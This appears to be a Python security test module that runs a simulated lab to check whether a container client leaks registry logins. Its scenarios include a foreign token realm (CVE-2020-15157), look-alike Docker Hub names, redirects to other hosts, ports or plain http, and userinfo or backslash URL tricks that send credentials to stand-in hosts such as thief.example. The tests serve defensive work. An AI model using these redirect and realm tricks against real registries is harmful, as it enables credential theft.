"""Who gets the login."""

from __future__ import annotations

from tests.support.attacks import (
    MANIFESTS,
    REPOSITORY,
    challenge,
    honest,
    redirect,
    redirect_who_logs_in,
    with_login,
)
from tests.support.lab import Lab


def credentials_to_a_foreign_realm(lab: Lab) -> bool:
    """CVE-2020-15157: the registry names the token service of another host, which gets the registry's login."""
    registry, reference = honest(lab)
    thief = lab.registry("thief.example")
    lab.log_in(registry.host)
    registry.answer(MANIFESTS, challenge(thief.url + "/token"))
    lab.ask(reference)
    return lab.saw_secret(thief)


def docker_hubs_token_service_by_prefix(lab: Lab) -> bool:
    """A token service whose name begins like Docker Hub's gets Docker Hub's login."""
    hub, _ = honest(lab, "registry-1.docker.io")
    thief = lab.registry("auth.docker.io.evil.example")
    lab.log_in("https://index.docker.io/v1/")
    hub.answer(MANIFESTS, challenge(thief.url + "/token"))
    lab.ask(f"docker://docker.io/{REPOSITORY}:1")
    return bool(thief.requests) and lab.saw_secret(thief)


def docker_io_evil_example_looked_up_by_prefix(lab: Lab) -> bool:
    """A registry whose name begins like Docker Hub's gets Docker Hub's login."""
    registry, reference = honest(lab, "docker.io.evil.example", auth="basic", users={"alice": lab.password})
    lab.log_in("https://index.docker.io/v1/", "docker.io")
    lab.ask(reference)
    return lab.saw_secret(registry)


def credentials_through_a_redirect_to_another_host(lab: Lab) -> bool:
    """The registry's login is sent to where a redirect leads."""
    registry, reference = with_login(lab)
    thief = lab.registry("thief.example")
    redirect_who_logs_in(registry, f"{thief.url}/v2/x")
    lab.ask(reference)
    return lab.saw_secret(thief)


def credentials_through_a_redirect_to_another_port(lab: Lab) -> bool:
    """The same host name, another port: on a shared machine, another user."""
    registry, reference = with_login(lab)
    thief = lab.registry("thief.example")
    lab.at(lab.names["registry.example"][0], thief, port=8443)
    redirect_who_logs_in(registry, "https://registry.example:8443/v2/x")
    lab.ask(reference)
    return lab.saw_secret(thief)


def credentials_through_a_redirect_to_another_scheme(lab: Lab) -> bool:
    """From https to http on the same host: the login goes over the wire in clear."""
    return _downgrade(lab)[1]


def redirect_downgraded_to_http(lab: Lab) -> bool:
    """From https to http: an attacker on the network answers in the registry's place."""
    return _downgrade(lab)[0]


def _downgrade(lab: Lab) -> tuple[bool, bool]:
    """Whether the plain server was asked, and whether it saw the login."""
    registry, reference = with_login(lab)
    wiretap = lab.registry("wiretap.example", tls=False)
    del lab.environ["APPTAINER_NOHTTPS"]
    lab.at(lab.names["registry.example"][0], wiretap, port=80)
    redirect_who_logs_in(registry, "http://registry.example/v2/x")
    lab.ask(reference)
    return bool(wiretap.requests), lab.saw_secret(wiretap)


def challenge_answered_after_a_redirect(lab: Lab) -> bool:
    """What the redirect leads to asks for a login, with a realm of its own that looks harmless."""
    registry, reference = honest(lab)
    thief = lab.registry("thief.example")
    lab.log_in(registry.host, thief.host)
    registry.answer(MANIFESTS, redirect(f"{thief.url}/v2/x"))
    thief.answer("/v2/", challenge(thief.url + "/token"))
    lab.ask(reference)
    return lab.saw_secret(thief) or bool(thief.asked("/token"))


def realm_downgraded_to_http(lab: Lab) -> bool:
    """An https registry wants the login sent to its own host by http."""
    registry, reference = honest(lab)
    wiretap = lab.registry("wiretap.example", tls=False)
    del lab.environ["APPTAINER_NOHTTPS"]
    lab.at(lab.names["registry.example"][0], wiretap, port=80)
    lab.log_in(registry.host)
    registry.answer(MANIFESTS, challenge("http://registry.example/token"))
    lab.ask(reference)
    return bool(wiretap.requests)


def redirect_of_a_token_request(lab: Lab) -> bool:
    """The token service, which may see the login, passes it on."""
    registry, reference = honest(lab, auth="token", users={"alice": lab.password})
    thief = lab.registry("thief.example")
    lab.log_in(registry.host)
    registry.answer("/token", redirect(thief.url + "/token"))
    lab.ask(reference)
    return bool(thief.requests)


def user_information_in_a_location(lab: Lab) -> bool:
    """``https://registry.example@thief.example/``: one program's user name is another one's host."""
    registry, reference = honest(lab)
    thief = lab.registry("thief.example")
    registry.answer(MANIFESTS, redirect(f"https://{registry.host}@{thief.host}/v2/x"))
    lab.ask(reference)
    return bool(thief.requests)


def user_information_in_a_realm(lab: Lab) -> bool:
    registry, reference = honest(lab)
    thief = lab.registry("thief.example")
    registry.answer(MANIFESTS, challenge(f"https://{registry.host}@{thief.host}/token"))
    lab.ask(reference)
    return bool(thief.requests)


def backslash_in_a_realm(lab: Lab) -> bool:
    registry, reference = honest(lab)
    thief = lab.registry("thief.example")
    registry.answer(MANIFESTS, challenge(f"https://{thief.host}\\\\@{registry.host}/token"))  # quoted: one backslash
    lab.ask(reference)
    return bool(thief.requests) or bool(registry.asked("/token")) or bool(registry.asked("/@"))


def backslash_in_a_location(lab: Lab) -> bool:
    r"""``https://thief.example\@registry.example/``: browsers see one host, RFC 3986 the other."""
    registry, reference = honest(lab)
    thief = lab.registry("thief.example")
    registry.answer(MANIFESTS, redirect(f"https://{thief.host}\\@{registry.host}/v2/x"))
    lab.ask(reference)
    return bool(thief.requests) or len(registry.asked("/v2/x")) > 0
